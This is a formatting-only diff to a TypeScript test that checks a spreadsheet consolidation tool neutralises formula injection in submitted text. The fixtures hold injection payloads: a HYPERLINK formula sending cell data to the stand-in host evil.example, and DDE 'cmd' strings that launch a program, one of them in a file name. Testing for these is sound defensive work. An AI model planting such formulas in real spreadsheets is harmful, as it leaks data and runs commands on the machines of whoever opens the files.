@@ -14,7 +14,7 @@ const DANGEROUS = /^[=+\-@\t\r]/;
 // Text a spreadsheet would run or a CSV reader would turn into a formula, placed where the summary copies it.
 const INJECTED: Record<string, string> = {
   D11: '=HYPERLINK("http://evil.example/?"&A1,"認知症カフェ開催回数（回）")',
-  B11: '+1+cmd|\' /C calc\'!A0',
+  B11: "+1+cmd|' /C calc'!A0",
   C11: '-2+3 地域づくり',
   J12: '@SUM(1+1)',
   D13: '\t=1+1 子育て講座等の開催回数（回）',
@@ -72,8 +72,11 @@ describe('formula injection through submitted text', () => {
     summary = join(dir, 'summary.xlsx');
     csv = join(dir, 'measures.csv');
     await new Promise<void>((done, fail) =>
-      execFile(process.execPath, [join(ROOT, 'bin/mokuhyo.js'), 'consolidate', '=cmd|calc!A0.xlsx', '-o', summary, '--csv', csv], { cwd: dir }, (err, _out, stderr) =>
-        err ? fail(new Error(stderr)) : done(),
+      execFile(
+        process.execPath,
+        [join(ROOT, 'bin/mokuhyo.js'), 'consolidate', '=cmd|calc!A0.xlsx', '-o', summary, '--csv', csv],
+        { cwd: dir },
+        (err, _out, stderr) => (err ? fail(new Error(stderr)) : done()),
       ),
     );
   }, 120_000);
@@ -89,10 +92,14 @@ describe('formula injection through submitted text', () => {
     const wb = new ExcelJS.Workbook();
     await wb.xlsx.load((await readFile(summary)) as unknown as ArrayBuffer);
     const texts: string[] = [];
-    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
-      expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
-      texts.push(cell.text);
-    })));
+    wb.eachSheet((ws) =>
+      ws.eachRow((row) =>
+        row.eachCell((cell) => {
+          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
+          texts.push(cell.text);
+        }),
+      ),
+    );
     expect(texts).toContain(INJECTED['D11']);
     expect(texts.some((t) => t.includes('+1+cmd'))).toBe(true);
   });
